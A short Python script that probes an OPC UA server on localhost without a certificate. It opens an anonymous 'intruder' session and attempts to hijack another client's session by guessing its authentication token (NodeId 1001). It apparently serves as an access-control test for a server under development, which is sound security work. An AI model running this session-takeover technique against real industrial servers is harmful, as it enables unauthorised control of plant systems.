"""A client without a certificate that goes as far as the server lets it: prints what each way in came to.

`session`: it opens a session of its own. `takeover`: it activates the session of somebody else, whose token it guesses.
"""

import asyncio
import sys

from asyncua import Client, ua


async def _try(name, attempt):
    try:
        await attempt
    except ua.UaStatusCodeError as refused:
        print(f"{name}:{type(refused).__name__}")
    else:
        print(f"{name}:entered")


async def _opened(url):
    """A channel without security, which is there to ask for the endpoints."""
    client = Client(url)
    await client.connect_socket()
    await client.send_hello()
    await client.open_secure_channel()
    return client.uaclient


def _anonymous():
    wanted = ua.ActivateSessionParameters()
    wanted.UserIdentityToken = ua.AnonymousIdentityToken(PolicyId="anonymous")
    return wanted


async def _session(url):
    channel = await _opened(url)
    wanted = ua.CreateSessionParameters(EndpointUrl=url, SessionName="intruder", RequestedSessionTimeout=60_000)
    await channel.create_session(wanted)
    await channel.activate_session(_anonymous())


async def _takeover(url):
    channel = await _opened(url)
    # asyncua counts its sessions' tokens from 1000 on; the server's own is the first, then the one above.
    channel.protocol.authentication_token = ua.NodeId(1001)
    await channel.activate_session(_anonymous())


async def main():
    url = f"opc.tcp://127.0.0.1:{sys.argv[1]}/goldline"
    await _try("session", _session(url))
    await _try("takeover", _takeover(url))


asyncio.run(main())
